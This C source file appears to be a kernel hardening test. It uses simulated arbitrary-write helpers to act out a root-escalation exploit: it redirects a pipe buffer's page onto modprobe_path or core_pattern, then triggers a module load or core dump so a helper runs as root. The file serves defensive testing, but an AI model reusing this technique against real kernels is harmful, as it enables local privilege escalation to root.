// SPDX-License-Identifier: GPL-2.0-only
/*
 * Let the last buffer of a pipe be the page in which the kernel has the path of
 * a program that it runs as root, and write to the pipe. As public exploits do,
 * for which one write of a few bytes is enough.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include "common.h"
#include "helper.h"

/* A protocol family that no kernel of ours has. */
#define FAMILY	21

static bool has_sockets(void)
{
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	if (fd >= 0)
		close(fd);
	return fd >= 0 || errno != ENOSYS;
}

static void load_a_module(void)
{
	int fd = socket(FAMILY, SOCK_DGRAM, 0);

	if (fd >= 0)
		die("there is such a protocol family");
}

/*
 * A process that dies while it writes has the pipe locked for ever, so that the
 * last one to close it would wait for ever as well. Let that be nobody.
 */
static void keep_open(void)
{
	pid_t pid = fork();

	if (pid < 0)
		die_errno("fork");
	if (!pid) {
		close(FD_LOOT);
		setsid();
		for (;;)
			pause();
	}
}

int main(void)
{
	static const char module[] = HELPER_DIR "pipe-page";
	static const char core[] = "|" HELPER_DIR "pipe-page";
	struct kpkeys_vuln_symbol path;
	const char *text = module;
	int fds[2], status;
	u64 buffer, page;
	pid_t pid;

	helper_main();

	path = vuln_symbol("modprobe_path");
	if (!path.addr || !has_sockets()) {
		path = vuln_symbol("core_pattern");
		text = core;
	}
	if (!path.addr)
		die("the kernel has neither modprobe_path nor core_pattern");

	if (pipe(fds) || write(fds[1], "x", 1) != 1)
		die_errno("pipe");
	buffer = vuln_pipe(fds[0]);
	page = vuln_read(buffer);
	keep_open();

	pid = fork();
	if (pid < 0)
		die_errno("fork");
	if (!pid) {
		vuln_write(buffer, path.page);
		/* The offset in the page, and below it a length of none. */
		vuln_write(buffer + 8, path.addr & (page_size() - 1));
		_exit(write(fds[1], text, strlen(text) + 1) < 0);
	}
	if (waitpid(pid, &status, 0) != pid)
		die_errno("waiting for the writer");
	if (WIFSIGNALED(status))
		raise(WTERMSIG(status));
	vuln_write(buffer, page);
	if (status)
		die("the pipe was not written to");

	if (text == module)
		load_a_module();
	else
		dump_core();
	helper_collect();
	return 0;
}
